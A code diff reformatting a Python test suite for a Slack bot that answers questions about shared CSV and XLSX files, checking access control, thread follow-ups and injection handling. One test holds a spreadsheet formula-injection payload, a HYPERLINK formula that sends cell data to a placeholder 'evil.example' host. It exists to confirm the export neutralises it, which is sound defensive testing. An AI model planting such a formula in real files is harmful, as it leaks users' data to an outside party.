@@ -27,15 +27,24 @@ def store(tmp_path: Path, **limits: Any) -> SharedFiles:
     return SharedFiles(FileTables(tmp_path / "files", limits=FileLimits(**limits)))
 
 
-def with_files(h: SlackHarness, *files: dict[str, Any], text: str = "<@UBOT> trend?",
-               ts: str = "100.000100", user: str = "U1") -> dict[str, Any]:  # fmt: skip
+def with_files(
+    h: SlackHarness,
+    *files: dict[str, Any],
+    text: str = "<@UBOT> trend?",
+    ts: str = "100.000100",
+    user: str = "U1",
+) -> dict[str, Any]:
     return mention(text, ts=ts, user=user, files=list(files))
 
 
 def tool_results(h: SlackHarness) -> list[str]:
     llm = h.agent.llm_service
-    return [m.content or "" for r in llm.requests for m in r.messages  # type: ignore[attr-defined]
-            if m.role == "tool"]  # fmt: skip
+    return [
+        m.content or ""
+        for r in llm.requests
+        for m in r.messages  # type: ignore[attr-defined]
+        if m.role == "tool"
+    ]
 
 
 def table_blocks(h: SlackHarness) -> list[dict[str, Any]]:
@@ -80,9 +89,17 @@ async def test_a_follow_up_in_the_thread_queries_the_same_table(tmp_path: Path) 
     async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
         await h.event(with_files(h, h.fake.share_file("sales.csv", SALES)))
         await h.idle()
-        await h.event({"type": "message", "user": "U1", "text": "how many rows?",
-                       "ts": "100.000300", "thread_ts": "100.000100", "channel": "C1",
-                       "channel_type": "channel"})  # fmt: skip
+        await h.event(
+            {
+                "type": "message",
+                "user": "U1",
+                "text": "how many rows?",
+                "ts": "100.000300",
+                "thread_ts": "100.000100",
+                "channel": "C1",
+                "channel_type": "channel",
+            }
+        )
         await h.idle()
         assert tool_results(h)[-1].startswith("Query returned 1 row.")
         assert "\n3" in tool_results(h)[-1]
@@ -108,8 +125,9 @@ async def test_another_person_in_the_thread_cannot_query_the_askers_file(tmp_pat
     async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
         await h.event(with_files(h, h.fake.share_file("sales.csv", SALES)))
         await h.idle()
-        await h.event(mention("<@UBOT> show me sales", ts="100.000500", user="U2",
-                              thread_ts="100.000100"))  # fmt: skip
+        await h.event(
+            mention("<@UBOT> show me sales", ts="100.000500", user="U2", thread_ts="100.000100")
+        )
         await h.idle()
         assert tool_results(h)[-1].startswith("No files were shared with you")
         assert table_blocks(h) == []
@@ -202,21 +220,34 @@ async def test_a_csv_with_formula_injection_stays_data_and_is_quoted_in_the_expo
         await h.idle()
         assert "evil (from evil.csv, 151 rows): id BIGINT, note VARCHAR" in h.llm_questions()[0]
         assert evil in tool_results(h)[0].replace('""', '"')
-        [export] = [v for k, v in h.fake.uploads.items() if h.fake.files[k].name.endswith(".csv")
-                    and not h.fake.files[k].private]  # fmt: skip
+        [export] = [
+            v
+            for k, v in h.fake.uploads.items()
+            if h.fake.files[k].name.endswith(".csv") and not h.fake.files[k].private
+        ]
         lines = export.decode().splitlines()
         assert lines[1] == '0,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
-        assert not any(cell.startswith(("=", "+", "@")) for line in lines
-                       for cell in line.split(","))  # fmt: skip
+        assert not any(
+            cell.startswith(("=", "+", "@")) for line in lines for cell in line.split(",")
+        )
 
 
 async def test_a_file_alone_in_a_dm_is_a_question_about_it(tmp_path: Path) -> None:
     """A DM that is only a file (``file_share``, no text) is answered about the file."""
     async with running_bot(tmp_path, ["It has 3 rows."], files=store(tmp_path)) as h:
         shared = h.fake.share_file("sales.csv", SALES, user="U1")
-        await h.event({"type": "message", "subtype": "file_share", "user": "U1", "text": "",
-                       "ts": "200.000100", "channel": "D1", "channel_type": "im",
-                       "files": [shared]})  # fmt: skip
+        await h.event(
+            {
+                "type": "message",
+                "subtype": "file_share",
+                "user": "U1",
+                "text": "",
+                "ts": "200.000100",
+                "channel": "D1",
+                "channel_type": "im",
+                "files": [shared],
+            }
+        )
         await h.idle()
         assert h.llm_questions()[0].lstrip().startswith("[Files shared with this message")
         assert "It has 3 rows." in [m.text for m in h.fake.visible("D1")]
@@ -230,5 +261,7 @@ async def test_a_file_name_with_markup_never_pings_the_channel(tmp_path: Path) -
         await h.idle()
         posted = [c.args for c in h.fake.calls_to("chat.postMessage")]
         assert not any("<!channel>" in json.dumps(args) for args in posted)
-        assert any("!channel.xlsx is not a valid XLSX workbook" in (args.get("text") or "")
-                   for args in posted)  # fmt: skip
+        assert any(
+            "!channel.xlsx is not a valid XLSX workbook" in (args.get("text") or "")
+            for args in posted
+        )
